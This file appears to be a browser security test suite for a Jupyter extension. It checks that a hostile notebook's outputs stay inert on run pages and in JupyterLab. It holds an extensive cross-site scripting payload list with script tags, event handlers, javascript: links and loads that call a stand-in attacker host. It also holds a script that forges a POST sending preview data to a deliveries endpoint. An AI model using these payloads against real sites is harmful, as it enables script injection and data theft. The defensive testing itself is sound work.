"""A notebook that attacks whoever looks at its results: in a real browser nothing comes of it."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from jupyter_mlcd.server.projects import project_id
from tests.browser.lab import Lab
from tests.browser.page import RUNNING, SOON
from tests.journeys.projects import commit_all, git, mlcd, notebook, repository

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

CONFIG = """
[project]
name = "small"
[suites.quality]
[[suites.quality.notebooks]]
path = "hostile.ipynb"
produces = ["model.txt"]
[environments.production]
"""
OURS = project_id("")
ATTACK = """
<script>document.title = 'PWNED'; fetch('EVIL/script')</script>
<script src="EVIL/script.js"></script>
<img src="EVIL/img" onerror="document.title = 'PWNED'; fetch('EVIL/onerror')">
<img src=x onerror="document.title = 'PWNED'"><body onload="document.title = 'PWNED'">
<svg onload="document.title = 'PWNED'"><script>document.title = 'PWNED'</script>
<image href="EVIL/svg"/></svg>
<meta http-equiv="refresh" content="0; url=EVIL/refresh">
<base href="EVIL/base/"><link rel="stylesheet" href="EVIL/css"><link rel="prefetch" href="EVIL/pre">
<style>@import 'EVIL/import'; body { background: url(EVIL/background) }
@font-face { font-family: f; src: url(EVIL/font) } * { font-family: f }</style>
<div style="background-image: url(EVIL/style)">a</div>
<iframe src="EVIL/frame"></iframe><iframe srcdoc="<script>top.document.title='PWNED'</script>">
</iframe><object data="EVIL/object"></object><embed src="EVIL/embed">
<video src="EVIL/video" poster="EVIL/poster" autoplay></video><audio src="EVIL/audio"></audio>
<form action="EVIL/form"><button autofocus onfocus="document.title = 'PWNED'">b</button></form>
<input autofocus onfocus="document.title = 'PWNED'"><details open ontoggle="document.title='PWNED'">
</details><a href="javascript:document.title='PWNED'">c</a><table background="EVIL/table"></table>
<marquee onstart="document.title = 'PWNED'">d</marquee><math href="javascript:alert(1)">e</math>
<script>
fetch('/mlcd/projects/OURS/previews/production').then(one => one.json()).then(one =>
  fetch('/mlcd/projects/OURS/deliveries', {method: 'POST', body: JSON.stringify(one)}))
</script>
"""
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="document.title = \'PWNED\'">'
    "<script>document.title = 'PWNED'; fetch('EVIL/picture')</script>"
    '<image href="EVIL/picture"/><rect width="9" height="9"/></svg>'
)


class Evil:
    """Another site on this machine, which notes who asks it for anything."""

    def __init__(self) -> None:
        asked = self.asked = list[str]()
        self.page = b""
        evil = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(evil.page if self.path == "/page" else b"")

            def log_message(self, *_: Any) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def armed(self, text: str) -> str:
        return text.replace("EVIL", self.url).replace("OURS", OURS)

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture(scope="module")
def evil() -> Iterator[Evil]:
    site = Evil()
    yield site
    site.close()


@pytest.fixture(scope="module")
def attacked(evil: Evil, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """Return a project whose notebook attacks in every output, ready to deliver, and its run."""
    folder = repository(tmp_path_factory.mktemp("hostile") / "small")
    attack, picture = repr(evil.armed(ATTACK)), repr(evil.armed(SVG))
    (folder / "hostile.ipynb").write_text(
        notebook(
            "open('model.txt', 'w').write('model')",
            f"from IPython.display import *\nATTACK = {attack}\nHTML(ATTACK)",
            "Markdown(ATTACK)",
            f"SVG({picture})",
            "Latex(ATTACK)",
            "print(ATTACK)",
            "Javascript(\"document.title = 'PWNED'\")",
            "forms = 'text/html', 'image/svg+xml', 'text/plain'\n"
            "display(dict.fromkeys(forms, ATTACK), raw=True)",
        )
    )
    (folder / "mlcd.toml").write_text(CONFIG)
    (folder / ".gitignore").write_text("releases/\nmodel.txt\n")
    commit_all(folder, evil.armed("<img src=EVIL/commit onerror=alert(1)>"))
    run = json.loads(mlcd(folder, "run", "--keep", "--json").out)
    assert run["verdict"] == "passed", run["reason"]
    return folder, run["id"]


@pytest.fixture(scope="module")
def hostile_lab(
    attacked: tuple[Path, str], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Lab]:
    server = Lab(attacked[0], tmp_path_factory.mktemp("home"))
    server.start()
    yield server
    server.stop()


@pytest.fixture
def safe(
    page: Page, evil: Evil, hostile_lab: Lab, attacked: tuple[Path, str]
) -> Iterator[tuple[Page, str]]:
    """Return a browser that is logged in, and where the run is; in the end nothing happened."""
    base = f"http://127.0.0.1:{hostile_lab.port}"
    folder, run = attacked
    before = git(folder, "for-each-ref")
    left: list[str] = []
    said: list[str] = []
    # Of what the policy stops, a browser tells the request, and no answer.
    page.on("response", lambda one: left.append(one.url))
    page.on("dialog", lambda one: said.append(one.message))
    page.goto(f"{base}/api/me?token={hostile_lab.token}")
    evil.asked.clear()
    yield page, f"{base}/mlcd/projects/{OURS}/runs/{run}"
    page.goto("about:blank")
    assert evil.asked == []
    assert {urlsplit(one).netloc for one in left} <= {urlsplit(base).netloc, ""}
    assert not [one for one in left if one.endswith("/deliveries")]
    assert said == []
    assert git(folder, "for-each-ref") == before
    assert not (folder / "releases").exists()


PAGES = ["notebooks/0", "report", "log"]
OUTPUTS = [
    f"files/outputs/0/{cell}/0/{form}" for cell in range(1, 8) for form in ("text", "picture")
]


@pytest.mark.timeout(300)
def test_the_attack_is_a_real_one(page: Page, evil: Evil) -> None:
    evil.page = evil.armed(ATTACK).replace(f"0; url={evil.url}/refresh", "9").encode()
    evil.asked.clear()
    page.goto(f"{evil.url}/page")
    expect(page).to_have_title("PWNED", timeout=SOON)
    page.wait_for_load_state("networkidle")
    wanted = {"script", "img", "onerror", "css", "background", "frame", "object"}
    assert wanted <= {one.rpartition("/")[2] for one in evil.asked}


@pytest.mark.timeout(300)
@pytest.mark.parametrize("place", [*PAGES, "../../evidence/RUN"])
def test_a_page_of_a_hostile_run_does_nothing(safe: tuple[Page, str], place: str) -> None:
    page, run = safe
    page.goto(f"{run}/{place.replace('RUN', run.rpartition('/')[2])}", timeout=RUNNING)
    page.wait_for_load_state("networkidle")
    assert page.title() != "PWNED"
    expect(page.locator("body")).not_to_be_empty()
    for link in page.locator("a[href^='javascript']").all():
        link.click(force=True)
    assert page.title() != "PWNED"
    assert page.locator("script, iframe, object, embed, form, base, link").count() == 0


@pytest.mark.timeout(300)
def test_what_a_hostile_notebook_put_out_is_dead_in_every_frame_of_jupyterlab(
    safe: tuple[Page, str], hostile_lab: Lab
) -> None:
    page, run = safe
    page.goto(hostile_lab.url)
    page.wait_for_function("() => window.jupyterapp?.restored", timeout=60_000)
    title = page.title()
    for place in [*PAGES, *OUTPUTS]:
        page.evaluate(
            """async address => {
                const asked = await fetch(address);
                const made = ['iframe', 'img', 'embed', 'object', 'script', 'link'].map(name => {
                  const one = document.createElement(name);
                  one.setAttribute('rel', 'stylesheet');
                  one.setAttribute({object: 'data', link: 'href'}[name] ?? 'src', address);
                  return one;
                });
                const ended = made.map(one => new Promise(done => {
                  one.addEventListener('load', done);
                  one.addEventListener('error', done);
                  setTimeout(done, 2000);
                }));
                document.body.append(...made);
                await Promise.all(ended);
                made.forEach(one => one.remove());
                return asked.status;
            }""",
            f"{run}/{place}",
        )
    assert page.title() == title
